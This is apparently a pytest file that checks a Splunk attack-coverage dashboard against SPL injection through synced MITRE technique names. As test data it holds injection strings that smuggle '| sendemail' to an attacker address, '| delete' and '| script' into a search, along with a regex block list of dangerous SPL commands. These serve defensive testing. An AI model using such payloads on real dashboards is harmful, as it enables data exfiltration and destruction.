"""Synced content stays data in the dashboard: no drilldown runs a synced search, and a value
from a synced lookup (a technique name from upstream's ATT&CK catalogue) cannot add commands to
the search it is put into (docs/hostile-input.md, "Dashboard").

The coverage dashboard sets two tokens by drilldown: ``technique`` (a matrix cell: glyph, id and
the technique *name from the synced catalogue*) and ``rule`` (a row of the rules panel, built from
the titles of this app's own saved searches). ``technique`` goes into SPL, so it must be used
with the ``|s`` filter (Dashboard Studio quotes the value and escapes its quotes).
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest

from devtools.spl.lexer import split_pipeline
from malicious_image.content.catalogue import read_catalogue

ROOT = Path(__file__).resolve().parents[2]
DEFINITION = json.loads((ROOT / "dashboards" / "attack_coverage.json").read_text(encoding="utf-8"))
QUERIES = {name: ds.get("options", {}).get("query", "") for name, ds in DEFINITION["dataSources"].items()}
HOSTILE_NAME = 'x" | sendemail to="attacker@example.com" | eval y="'
HOSTILE_NAMES = [HOSTILE_NAME, HOSTILE_NAME + "\\", '\\" | delete | eval z="', "$technique$ | script x"]


def _drilldown_tokens() -> dict[str, str]:
    """token -> the visualization that sets it."""
    return {
        t["token"]: viz_name
        for viz_name, viz in DEFINITION["visualizations"].items()
        for handler in viz.get("eventHandlers", [])
        if handler["type"] == "drilldown.setToken"
        for t in handler["options"]["tokens"]
    }


def test_the_drilldown_tokens_are_the_ones_reviewed():
    assert _drilldown_tokens() == {"technique": "viz_matrix", "rule": "viz_rules"}


def test_the_technique_token_is_always_quoted_in_spl():
    uses = {name: re.findall(r"\$technique(\|[a-z])?\$", q) for name, q in QUERIES.items()}
    used = {name: filters for name, filters in uses.items() if filters}
    assert used, "the technique drilldown is not used any more: review this test"
    assert all(f == "|s" for filters in used.values() for f in filters), used


def test_the_rule_token_comes_from_local_saved_search_titles_only():
    rules = QUERIES["ds_rules"]
    assert 'eval rule=replace(replace(title, "^Malicious Image - ", ""), " - Rule$", "")' in rules
    assert "| where isnotnull(title)" in rules  # rows without a local saved search are dropped


def test_no_data_source_runs_a_search_taken_from_a_result():
    for name, query in QUERIES.items():
        assert not re.search(r"\|\s*map\b", query), name  # map runs a search built from each row
        assert not re.search(r"\$[^$|]*search[^$]*\$", query), name  # no token carries a search
        assert not re.search(r"\|\s*(sendemail|script|run|outputlookup|collect|delete)\b", query), name
    for token in _drilldown_tokens():
        assert "search" not in token


def _quote_all(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _quote_documented(value: str) -> str:
    """|s as Dashboard Studio documents it: quotes around, quotation marks escaped (backslashes
    are not said to be, so a value ending in a backslash could still end the string early)."""
    return '"' + value.replace('"', '\\"') + '"'


def _substituted(query: str, value: str, quote=_quote_all) -> str:
    return query.replace("$technique|s$", quote(value)).replace("$technique$", value)


@pytest.mark.parametrize("hostile_name", HOSTILE_NAMES)
@pytest.mark.parametrize("name", [n for n, q in QUERIES.items() if "$technique" in q])
def test_a_hostile_technique_name_cannot_add_a_command(name, hostile_name):
    benign = [c.name for c in split_pipeline(_substituted(QUERIES[name], "● T1204.003 Malicious Image"))]
    hostile = [c.name for c in split_pipeline(_substituted(QUERIES[name], "● T1204.003 " + hostile_name))]
    assert hostile == benign


def test_without_the_quoting_the_same_name_would_add_a_command():
    """The check above can fail: the unquoted form of the same query lets the name add sendemail."""
    raw = 'eval technique="$technique$"'
    commands = [c.name for c in split_pipeline("| makeresults | " + raw.replace("$technique$", HOSTILE_NAME))]
    assert "sendemail" in commands


def _synced_name(hostile_name: str) -> str:
    """The technique name the sync stores for a hostile catalogue row (content/catalogue.py)."""
    cell = '"' + hostile_name.replace('"', '""') + '"'
    data = ("mitre_id,technique,tactics\nT1204.003," + cell + ",Execution\n").encode()
    return read_catalogue(data, ["Execution"])[0].technique_name


@pytest.mark.parametrize("quote", [_quote_all, _quote_documented], ids=["escapes-backslash", "escapes-quotes-only"])
@pytest.mark.parametrize("hostile_name", HOSTILE_NAMES)
def test_a_hostile_name_synced_from_the_catalogue_is_harmless_either_way(hostile_name, quote):
    """Defence in depth: the sync neutralises quotes, backslashes, $ and backquotes in technique
    names, so the drilldown stays one quoted string whatever |s does with backslashes."""
    name = _synced_name(hostile_name)
    assert not set(name) & set('"\\$`')
    query = QUERIES["ds_technique_detail"]
    benign = [c.name for c in split_pipeline(_substituted(query, "● T1204.003 Malicious Image", quote))]
    assert [c.name for c in split_pipeline(_substituted(query, "● T1204.003 " + name, quote))] == benign
